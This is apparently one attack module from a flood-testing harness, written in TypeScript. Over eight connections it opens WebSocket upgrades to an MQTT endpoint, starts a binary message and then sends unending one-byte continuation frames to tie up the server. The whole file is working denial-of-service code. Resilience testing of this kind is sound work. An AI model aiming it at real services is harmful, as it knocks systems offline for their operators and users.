import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type Attack, copies, inLanes, open, pour } from '../flood.ts'

const CONNECTIONS = 8
/** The beginning of a binary message, and an empty continuation; both masked with zeros. */
const FIRST = Buffer.from([0x02, 0x80, 0, 0, 0, 0])
const CONTINUATION = Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0])

export const fragments: Attack = {
  about: 'sends WebSocket messages that never end, in fragments of one byte',
  start(target) {
    const bytes = copies(CONTINUATION, 500)
    inLanes(CONNECTIONS, async () => {
      const socket = await open(target, { protocol: 'http/1.1' })
      const key = randomBytes(16).toString('base64')
      socket.write(
        `GET /mqtt HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-protocol: mqtt\r\nsec-websocket-key: ${key}\r\n\r\n`,
      )
      await once(socket, 'data')
      socket.resume()
      socket.write(FIRST)
      await pour(socket, () => bytes)
    })
  },
}
